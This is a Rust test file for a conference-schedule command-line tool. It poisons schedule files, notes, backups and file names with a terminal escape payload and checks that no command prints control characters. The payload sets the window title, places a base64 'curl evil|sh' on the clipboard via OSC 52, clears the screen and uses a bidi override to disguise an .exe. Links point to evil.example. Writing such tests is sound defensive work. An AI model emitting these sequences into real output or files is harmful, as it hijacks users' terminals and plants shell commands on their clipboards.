//! Terminal escape injection: a hostile schedule in every format, hostile notes and a hostile
//! backup, made in the test from the real files in ../shared/fixtures with OSC 0 (window title),
//! OSC 52 (clipboard), CSI, C1 controls and bidi overrides in every text field. No command may
//! print ESC, BEL, a C1 control or a bidi control to stdout or stderr; the visible rest of the
//! text still shows (so the field did reach the output).

mod common;

use std::path::{Path, PathBuf};
use std::process::Output;

use common::{hallway, shared};
use serde_json::Value;

/// Set the window title, put `curl evil|sh` on the clipboard, clear the screen, CSI as C1,
/// NEL, and a right-to-left override.
const PAYLOAD: &str =
    "\u{1b}]0;pwned\u{7}\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}\u{1b}[2J\u{9b}31m\u{85}\u{202e}gnp.exe";

/// What must never reach a terminal: ESC, BEL, any other C0 but LF/TAB (and the CR of a CR LF,
/// checked apart), DEL, C1, bidi controls.
fn harmful(c: char) -> bool {
    (c.is_control() && !matches!(c, '\n' | '\t' | '\r'))
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

fn assert_clean(what: &str, out: &Output) {
    for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        let text = String::from_utf8_lossy(bytes);
        let lone_cr = text
            .match_indices('\r')
            .any(|(i, _)| !text[i + 1..].starts_with('\n'));
        assert!(!lone_cr, "{what}: {stream} holds a lone CR");
        if let Some(c) = text.chars().find(|c| harmful(*c)) {
            panic!(
                "{what}: {stream} holds {c:?}:\n{}",
                text.chars().take(2000).collect::<String>()
            );
        }
    }
}

fn run(what: &str, cmd: &mut assert_cmd::Command) -> Output {
    let out = cmd
        .output()
        .unwrap_or_else(|e| panic!("{what}: cannot run: {e}"));
    assert_clean(what, &out);
    out
}

fn ok(what: &str, cmd: &mut assert_cmd::Command) -> String {
    let out = run(what, cmd);
    assert!(
        out.status.success(),
        "{what}: exit {:?}: {}",
        out.status.code(),
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Appends the payload to every string of a JSON document except the keys in `keep` (dates,
/// times, zones: what must parse for the file to load at all).
fn poison_json(v: &mut Value, keep: &[&str]) {
    match v {
        Value::Object(map) => {
            for (k, child) in map.iter_mut() {
                if keep.contains(&k.as_str()) {
                    continue;
                }
                match child {
                    Value::String(s) => s.push_str(PAYLOAD),
                    other => poison_json(other, keep),
                }
            }
        }
        Value::Array(items) => {
            for item in items {
                match item {
                    Value::String(s) => s.push_str(PAYLOAD),
                    other => poison_json(other, keep),
                }
            }
        }
        _ => {}
    }
}

fn read(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

fn write(dir: &Path, name: &str, text: &str) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, text).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    path
}

/// frab/pretalx JSON (33C3, 36C3): every string, guids, ids and links included.
fn frab_json(dir: &Path, fixture: &str) -> Option<PathBuf> {
    let src = shared(&format!("fixtures/{fixture}"))?;
    let mut doc: Value = serde_json::from_str(&read(&src)).unwrap_or_else(|e| panic!("{e}"));
    let keep = [
        "date",
        "start",
        "end",
        "duration",
        "day_change",
        "timeslot_duration",
        "day_start",
        "day_end",
        "time_zone_name",
        "timezone",
        "version",
    ];
    poison_json(&mut doc, &keep);
    let text = serde_json::to_string(&doc).unwrap_or_else(|e| panic!("{e}"));
    Some(write(dir, &format!("hostile-{fixture}"), &text))
}

/// hallway's own format (the bundled program's file): every string but times and zones.
fn own_format(dir: &Path) -> PathBuf {
    let src = Path::new(env!("CARGO_MANIFEST_DIR")).join("data/pytorch-conference-2024.json");
    let mut doc: Value = serde_json::from_str(&read(&src)).unwrap_or_else(|e| panic!("{e}"));
    let keep = [
        "format",
        "start",
        "end",
        "day",
        "start_date",
        "end_date",
        "time_zone",
        "utc_offset",
    ];
    if let Some(sessions) = doc.get_mut("sessions").and_then(Value::as_array_mut) {
        for s in sessions {
            // A link's kind is a closed set; the session's free-text kind is poisoned below.
            if let Some(links) = s.get_mut("links").and_then(Value::as_array_mut) {
                for l in links {
                    if let Some(url) = l.get_mut("url").and_then(|u| match u {
                        Value::String(s) => Some(s),
                        _ => None,
                    }) {
                        url.push_str(PAYLOAD);
                    }
                }
            }
            if let Some(obj) = s.as_object_mut() {
                for (k, v) in obj.iter_mut() {
                    if keep.contains(&k.as_str()) || k == "links" {
                        continue;
                    }
                    match v {
                        Value::String(text) => text.push_str(PAYLOAD),
                        other => poison_json(other, &keep),
                    }
                }
            }
        }
    }
    if let Some(conf) = doc.get_mut("conference") {
        poison_json(conf, &keep);
    }
    let text = serde_json::to_string(&doc).unwrap_or_else(|e| panic!("{e}"));
    write(dir, "hostile-hallway.json", &text)
}

/// Pentabarf XML (33C3): the payload after the opening tag of every text element, and in the
/// guid, slug and link attributes. Raw ESC and BEL are not allowed in XML; hallway reads such
/// files anyway (as real servers send them), which is the point.
fn pentabarf_xml(dir: &Path) -> Option<PathBuf> {
    let src = shared("fixtures/33c3-frab-schedule.xml")?;
    let mut text = read(&src);
    for tag in [
        "title",
        "subtitle",
        "room",
        "track",
        "type",
        "abstract",
        "description",
        "slug",
        "venue",
        "city",
        "acronym",
        "language",
    ] {
        text = text.replace(&format!("<{tag}>"), &format!("<{tag}>{PAYLOAD}"));
    }
    text = text.replace("guid=\"", &format!("guid=\"{PAYLOAD}"));
    text = text.replace("href=\"", &format!("href=\"https://evil.example/{PAYLOAD}"));
    // Person names: `<person id="1">Name</person>`.
    text = text.replace("</person>", &format!("{PAYLOAD}</person>"));
    Some(write(dir, "hostile.xml", &text))
}

/// iCalendar (33C3): the payload at the end of every text property, UID and URL included.
fn icalendar(dir: &Path) -> Option<PathBuf> {
    let src = shared("fixtures/33c3-frab-schedule.ics")?;
    let text = read(&src);
    let mut out = String::with_capacity(text.len() * 2);
    for line in text.split_inclusive('\n') {
        let body = line.trim_end_matches(['\r', '\n']);
        let end = &line[body.len()..];
        out.push_str(body);
        let name = body.split([':', ';']).next().unwrap_or("");
        if [
            "SUMMARY",
            "DESCRIPTION",
            "LOCATION",
            "UID",
            "URL",
            "CATEGORIES",
            "X-WR-CALNAME",
            "ORGANIZER",
        ]
        .contains(&name)
        {
            out.push_str(PAYLOAD);
        }
        out.push_str(end);
    }
    Some(write(dir, "hostile.ics", &out))
}

/// Every command on one hostile program, imported under `name`, at a time during it.
fn every_command(work: &Path, file: &Path, name: &str, now: &str) {
    let cfg = work.join(format!("cfg-{name}"));
    let h = || {
        let mut c = hallway(&cfg);
        c.env("HALLWAY_NOW", now);
        c
    };
    let what = |cmd: &str| format!("{name}: {cmd}");

    // Validate and import print reports that quote the file.
    run(&what("validate"), h().arg("validate").arg(file));
    ok(
        &what("import"),
        h().arg("import").arg(file).args(["--name", name]),
    );
    ok(&what("conferences"), h().arg("conferences"));
    let c = |args: &[&str]| {
        let mut cmd = h();
        cmd.args(["--conference", name]).args(args);
        cmd
    };
    let listed = ok(&what("list"), &mut c(&["list"]));
    assert!(
        listed.contains("]0;pwned"),
        "{name}: the poisoned titles did not reach the list:\n{listed}"
    );
    let json = ok(&what("list --json"), &mut c(&["list", "--json"]));
    let sessions: Value = serde_json::from_str(&json)
        .unwrap_or_else(|e| panic!("{name}: list --json is not JSON after escaping: {e}"));
    let ids: Vec<String> = sessions
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|s| s.get("id").and_then(Value::as_str).map(str::to_owned))
                .take(3)
                .collect()
        })
        .unwrap_or_default();
    assert!(!ids.is_empty(), "{name}: no ids listed");
    ok(&what("search"), &mut c(&["search", "pwned"]));
    ok(
        &what("search --json"),
        &mut c(&["search", "--json", "pwned"]),
    );
    for id in &ids {
        ok(&what("show"), &mut c(&["show", id]));
        ok(&what("star"), &mut c(&["star", id]));
        // A note typed on the command line is outside text too.
        ok(
            &what("note"),
            &mut c(&["note", id, &format!("typed {PAYLOAD} note")]),
        );
    }
    ok(&what("notes"), &mut c(&["notes"]));
    // move-note quotes both titles, on stdout when it moves, on stderr when it cannot.
    assert!(ids.len() > 1, "{name}: fewer than two sessions");
    if let [from, to, ..] = ids.as_slice() {
        ok(
            &what("move-note"),
            &mut c(&["move-note", from, "1", "--to", to]),
        );
        ok(
            &what("move-note back"),
            &mut c(&["move-note", to, "2", "--to", from]),
        );
        run(
            &what("move-note past the end"),
            &mut c(&["move-note", from, "9", "--to", to]),
        );
    }
    ok(&what("now"), &mut c(&["now"]));
    ok(&what("now --json"), &mut c(&["now", "--json"]));
    ok(&what("agenda"), &mut c(&["agenda"]));
    ok(&what("agenda --json"), &mut c(&["agenda", "--json"]));
    let md = ok(&what("export notes"), &mut c(&["export", "notes"]));
    assert!(md.contains("typed"), "{name}: the note is not exported");
    ok(
        &what("export notes --format json"),
        &mut c(&["export", "notes", "--format", "json"]),
    );
    run(&what("export agenda"), &mut c(&["export", "agenda"]));
    ok(&what("unstar"), &mut c(&["unstar", &ids[0]]));
    // The same program opened straight from the file.
    let mut direct = h();
    direct.arg("--schedule").arg(file).arg("list");
    ok(&what("--schedule list"), &mut direct);

    // Notes from a file, under a poisoned heading and with poisoned lines.
    let notes = write(
        work,
        &format!("{name}-notes.txt"),
        &format!(
            "Some talk {PAYLOAD}\n1. first {PAYLOAD}\n2. second\u{1b}[8m hidden\n\n{PAYLOAD}\n1. again\n"
        ),
    );
    let mut import_notes = c(&["import-notes"]);
    import_notes.arg(&notes).args(["--session", &ids[0]]);
    ok(&what("import-notes"), &mut import_notes);
    let shown = ok(&what("show after import-notes"), &mut c(&["show", &ids[0]]));
    assert!(shown.contains("first"), "{name}: imported note missing");

    // A backup whose notes and session ids carry the payload.
    let backup = work.join(format!("{name}-backup.json"));
    let mut b = c(&["backup"]);
    b.arg(&backup);
    ok(&what("backup"), &mut b);
    let mut state: Value =
        serde_json::from_str(&read(&backup)).unwrap_or_else(|e| panic!("backup: {e}"));
    poison_json(&mut state, &["format", "written", "at", "since"]);
    write(
        work,
        &format!("{name}-backup.json"),
        &serde_json::to_string(&state).unwrap_or_else(|e| panic!("{e}")),
    );
    let fresh = work.join(format!("cfg-{name}-restored"));
    let mut restore = hallway(&fresh);
    restore.env("HALLWAY_NOW", now).arg("restore").arg(&backup);
    run(&what("restore"), &mut restore);
    let mut notes_after = hallway(&fresh);
    notes_after.env("HALLWAY_NOW", now).arg("notes");
    run(&what("notes after restore"), &mut notes_after);
    let mut list_after = hallway(&fresh);
    list_after
        .env("HALLWAY_NOW", now)
        .args(["list", "--starred"]);
    run(&what("list --starred after restore"), &mut list_after);
}

#[test]
fn a_hostile_frab_json_prints_nothing_harmful_from_any_command() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let Some(file) = frab_json(dir.path(), "33c3-frab-schedule.json") else {
        return;
    };
    every_command(dir.path(), &file, "frab", "2016-12-27T12:00:00+01:00");
}

/// The issue's own case: the 36C3 program (1,351 sessions) with OSC 52 in every title and
/// every other field, at 00:55 on the congress's first night.
#[test]
fn the_36c3_program_with_osc_52_everywhere_prints_nothing_harmful() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let Some(file) = frab_json(dir.path(), "36c3-everything-merged-schedule-LARGE.json") else {
        return;
    };
    every_command(dir.path(), &file, "36c3", "2019-12-28T00:55:00+01:00");
}

#[test]
fn a_hostile_pentabarf_xml_prints_nothing_harmful_from_any_command() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let Some(file) = pentabarf_xml(dir.path()) else {
        return;
    };
    every_command(dir.path(), &file, "xml", "2016-12-27T12:00:00+01:00");
}

#[test]
fn a_hostile_icalendar_prints_nothing_harmful_from_any_command() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let Some(file) = icalendar(dir.path()) else {
        return;
    };
    every_command(dir.path(), &file, "ics", "2016-12-27T12:00:00+01:00");
}

#[test]
fn a_hostile_hallway_file_prints_nothing_harmful_from_any_command() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let file = own_format(dir.path());
    every_command(dir.path(), &file, "own", "2024-09-18T15:00:00-07:00");
}

/// Error messages quote the file: a broken hostile file's problems and parse errors are
/// escaped too.
#[test]
fn errors_quoting_a_hostile_file_print_nothing_harmful() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let cfg = dir.path().join("cfg");
    let dup = common::schedule_json(&[
        &format!(
            r#"{{"id": "x{}", "title": "{}", "start": null, "end": null, "day": null}}"#,
            json_escape(PAYLOAD),
            json_escape(PAYLOAD)
        ),
        &format!(
            r#"{{"id": "x{}", "title": "", "start": "bad{}", "end": null, "day": null}}"#,
            json_escape(PAYLOAD),
            json_escape(PAYLOAD)
        ),
    ]);
    let broken = [
        ("dup.json", dup),
        (
            "raw.json",
            format!("{{\"schedule\": {{\"version\": \"{PAYLOAD}\", \"conference\": 3{PAYLOAD}"),
        ),
        (
            "bad.xml",
            format!(
                "<schedule><conference><title>{PAYLOAD}</title></conference><day date=\"{PAYLOAD}\"><room name=\"{PAYLOAD}\"><event guid=\"{PAYLOAD}\"><date>{PAYLOAD}</date></event></room></day></schedule>"
            ),
        ),
        (
            "bad.ics",
            format!(
                "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nUID:{PAYLOAD}\r\nDTSTART:{PAYLOAD}\r\nSUMMARY:{PAYLOAD}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
            ),
        ),
        ("name\u{1b}]0;x\u{7}.json", "{".to_owned()),
    ];
    for (name, text) in broken {
        let file = write(dir.path(), name, &text);
        let mut v = hallway(&cfg);
        v.arg("validate").arg(&file);
        let out = run(&format!("validate {name:?}"), &mut v);
        assert_ne!(out.status.code(), Some(0), "{name:?} validated");
        let mut i = hallway(&cfg);
        i.arg("import").arg(&file);
        run(&format!("import {name:?}"), &mut i);
        let mut s = hallway(&cfg);
        s.arg("--schedule").arg(&file).arg("list");
        run(&format!("--schedule {name:?} list"), &mut s);
    }
}

fn json_escape(s: &str) -> String {
    let quoted = serde_json::to_string(s).unwrap_or_else(|e| panic!("{e}"));
    quoted[1..quoted.len() - 1].to_owned()
}
